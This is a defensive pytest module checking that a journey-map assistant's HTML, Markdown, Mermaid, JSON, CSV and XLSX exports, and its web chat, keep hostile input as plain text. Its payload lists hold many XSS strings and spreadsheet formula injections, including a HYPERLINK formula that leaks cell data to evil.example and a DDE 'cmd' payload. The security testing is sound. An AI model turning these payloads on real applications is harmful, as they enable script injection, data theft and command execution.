"""Output safety: hostile text in any field of a map stays text in every export format.

tests/test_render.py checks the escaping helpers and a few payloads; here every payload goes
into every field and through every format, and the output is read the way its consumer
reads it: the HTML page (and the UI's frame around it) with an HTML parser, the Markdown
with a CommonMark renderer, the CSV with a CSV reader, the workbook with openpyxl.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from assistant.adapters.web.ui.views import findings_html, map_frame
from assistant.capabilities.critique.critic import critique_map
from assistant.domain import (
    Emotion,
    Item,
    JourneyMap,
    Stage,
)
from assistant.formats.parse import parse_map
from assistant.formats.render import render
from assistant.formats.render.html import CSP, CSS
from assistant.formats.render.xlsx import NOT_XML
from assistant.formats.syntax import FORMULA_START, encodable, without_surrogates
from tests.maps import map_with_text_everywhere

pytestmark = pytest.mark.security

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><iframe src="javascript:alert(1)"></iframe>',
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "<javascript:alert(1)>",
    "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script><style>",
    "</textarea><svg/onload=alert(1)>",
    "<object data=x></object><embed src=x>",
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<style>@import url(//evil.example)</style>",
    "%%{init: {'securityLevel': 'loose'}}%%",
    "\u202e<script>alert(1)</script>\u200b",
    "<scr\x00ipt>alert(1)</script>",
    "\ufffe<img src=x onerror=alert(1)>\uffff",
    "\ud800<script>alert(1)</script>",
    "a | b | <img src=x onerror=alert(1)>",
    "x\u2028| Actions | injected |\u2029y",
    "**bold** <br> *x* ; (owner: evil)",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",  # fullwidth: not a formula trigger in any spreadsheet we know of; kept as is
]
PAYLOADS = MARKUP + FORMULAS
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "img", "a", "link", "base", "form"}


CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")  # the importer reads these as binary


def sparse_map(text: str) -> JourneyMap:
    """A thin map whose critique findings quote its stage names."""
    stages = [  # keys of the five-stage model: the critic's verdict does not hang on the names
        Stage(name=text, key="awareness", actions=[Item(text=text)], pain_points=[Item(text=text)]),
        Stage(name=f"{text} 2", key="consideration", emotion=Emotion(score=-2, label=text)),
    ]
    return JourneyMap(title=text, stages=stages)


def as_cell(text: str) -> str:
    """What a cell keeps of ``text``: one line, trimmed, writable as UTF-8."""
    one_line = re.sub("[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]+", " ", text)
    return without_surrogates(one_line).strip()


def _export(text: str, fmt: str) -> bytes:
    return render(map_with_text_everywhere(text), fmt)[0]


class Page(HTMLParser):
    """Elements, attributes and text of an HTML document, as a browser's tokenizer sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.text: dict[str, list[str]] = {}
        self._open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(name, value or "") for name, value in attrs]
        if tag not in {"meta", "col", "line", "polyline", "circle", "br", "hr"}:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(name, value or "") for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        self.text.setdefault(self._open[-1] if self._open else "", []).append(data)

    def all_text(self) -> str:
        return "\n".join(chunk for chunks in self.text.values() for chunk in chunks)


def _assert_inert(page: Page, benign: Page) -> None:
    """No element or attribute beyond what the export itself writes; no script anywhere."""
    assert page.tags == benign.tags  # the payload added, removed or reordered no element
    assert not DANGEROUS_TAGS & set(page.tags)
    names = {name for name, _ in page.attrs}
    assert names == {name for name, _ in benign.attrs}
    assert not [name for name in names if name.startswith("on")]
    for name, value in page.attrs:
        squashed = re.sub(r"[\s\x00-\x1f]+", "", value).lower()
        assert "javascript:" not in squashed or name == "srcdoc", (name, value)


# --- HTML ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_export_shows_markup_as_text(payload: str) -> None:
    page = Page(_export(payload, "html").decode("utf-8"))
    benign = Page(_export("x", "html").decode("utf-8"))
    _assert_inert(page, benign)
    assert ("content", CSP) in page.attrs  # and the CSP forbids scripts if anything slipped
    assert "".join(page.text["style"]) == CSS
    shown = without_surrogates(payload).strip()
    assert page.all_text().count(shown) >= 30  # every field shows it, as text


@pytest.mark.parametrize("payload", MARKUP)
def test_ui_frame_and_findings_stay_inert(payload: str) -> None:
    journey = map_with_text_everywhere(payload)
    frame = Page(map_frame(journey, "en"))
    assert frame.tags == ["iframe"]
    attrs = dict(frame.attrs)
    assert attrs["sandbox"] == ""  # no allow-scripts, no allow-same-origin
    assert attrs["srcdoc"] == render(journey, "html")[0].decode("utf-8")
    findings = Page(findings_html(critique_map(sparse_map(payload)), "en"))
    benign = Page(findings_html(critique_map(sparse_map("x")), "en"))
    _assert_inert(findings, benign)
    shown = without_surrogates(findings.all_text())
    assert shown.count(without_surrogates(payload).strip()) >= 5  # the stage names, as text


# --- Markdown and Mermaid -----------------------------------------------------------


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line.replace("\\\\", "")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_export_stays_text(payload: str) -> None:
    from markdown_it import MarkdownIt

    text = _export(payload, "md").decode("utf-8")
    benign = _export("x", "md").decode("utf-8")
    lines, benign_lines = text.splitlines(), benign.splitlines()
    assert len(lines) == len(benign_lines)  # splitlines: also U+2028, U+0085, \x1c...
    assert [_unescaped_pipes(line) for line in lines] == [
        _unescaped_pipes(line) for line in benign_lines
    ]
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
    page, plain = Page(renderer.render(text)), Page(renderer.render(benign))
    assert page.tags == plain.tags  # raw HTML in the text did not become an element
    assert not [name for name, _ in page.attrs if name.startswith("on") or name == "href"]
    if CONTROLS.search(payload):
        return
    back = parse_map(text, "md")
    assert back.title == as_cell(payload)
    assert back.stages[0].name == as_cell(payload)
    assert back.stages[0].actions[0].text == as_cell(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_mermaid_export_stays_text(payload: str) -> None:
    text = _export(payload, "mermaid").decode("utf-8")
    benign = _export("x", "mermaid").decode("utf-8")
    assert len(text.splitlines()) == len(benign.splitlines())
    assert not re.search(r"[<>]|%%", text)
    for line in text.splitlines()[1:]:
        assert line.startswith(("    title ", "    section ", "      "))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_json_export_is_data(payload: str) -> None:
    data = json.loads(_export(payload, "json"))
    assert JourneyMap.model_validate(data) == encodable(map_with_text_everywhere(payload))


# --- spreadsheets -------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_cannot_start_a_formula(payload: str) -> None:
    content = _export(payload, "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    benign = list(csv.reader(io.StringIO(_export("x", "csv").decode("utf-8-sig"), newline="")))
    assert [len(row) for row in rows] == [len(row) for row in benign]
    cells = [cell for row in rows for cell in row if cell]
    assert len(cells) >= 20
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    if CONTROLS.search(payload):
        return
    back = parse_map(content, None, filename="map.csv")
    assert back.stages[0].name == as_cell(payload)
    assert back.stages[0].actions[0].text == as_cell(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_cells_are_strings_never_formulas(payload: str) -> None:
    from openpyxl import load_workbook

    content = _export(payload, "xlsx")
    workbook = load_workbook(io.BytesIO(content))
    written = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert len(written) >= 20
    assert {cell.data_type for cell in written} == {"s"}
    assert not [c.value for c in written if str(c.value).startswith(FORMULA_START)]
    assert not [sheet for sheet in workbook.worksheets if sheet._hyperlinks]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        sheets = [archive.read(n).decode() for n in names if n.startswith("xl/worksheets/")]
    assert not [n for n in names if "externalLink" in n or "vbaProject" in n]
    assert not [xml for xml in sheets if "<f>" in xml or "<f " in xml]
    back = parse_map(content, None, filename="map.xlsx")
    assert back.stages[0].name == NOT_XML.sub("", as_cell(payload)).strip()


# --- the web UI, in a browser ---------------------------------------------------------

HOSTILE_DOCUMENT = (
    "# Stamp card notes <img src=x onerror=\"window.__xss='title'\">\n\n"
    "Customers say the loyalty stamp app <img src=x onerror=\"window.__xss='img'\"> forgets "
    "their coffee stamps <script>window.__xss='script'</script> after an update.\n"
    "The loyalty stamp app <svg onload=\"window.__xss='svg'\"></svg> forgets stamps when the "
    "phone is offline <iframe src=\"javascript:window.__xss='frame'\"></iframe> at the counter.\n"
)


@pytest.mark.slow
def test_a_quoted_hostile_document_stays_text_in_the_browser(
    browser: Any, built_data_dir: Path, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    from assistant.app.services import Services
    from assistant.retrieval.readers import read_bytes
    from assistant.settings import Settings
    from tests.ui_server import RunningServer

    data = tmp_path / "data"
    shutil.copytree(built_data_dir, data, ignore=shutil.ignore_patterns("*.lock", "polku.db*"))
    settings = Settings(data_dir=data)
    document = read_bytes(HOSTILE_DOCUMENT.encode(), "stamps.md", 1_000_000)
    assert Services(settings).ingest([document]).chunks_written >= 1
    server = RunningServer(settings).start()
    context = browser.new_context()
    try:
        page = context.new_page()
        page.set_default_timeout(30_000)
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(server.url)
        chat = page.locator("#polku-chat")
        expect(chat).to_contain_text("?")
        page.locator("#polku-message textarea").fill(
            "Why does the loyalty stamp app forget the coffee stamps?"
        )
        page.locator("#polku-send").click()
        expect(chat).to_contain_text("coffee stamps")  # the answer quotes the document...
        expect(chat).to_contain_text("onerror=")  # ...and shows its markup as text
        expect(chat).to_contain_text("<script>")
        page.wait_for_timeout(500)
        assert page.evaluate("window.__xss") is None
        assert dialogs == []
        assert chat.locator("img, script, iframe, svg[onload]").count() == 0
    finally:
        context.close()
        server.stop()
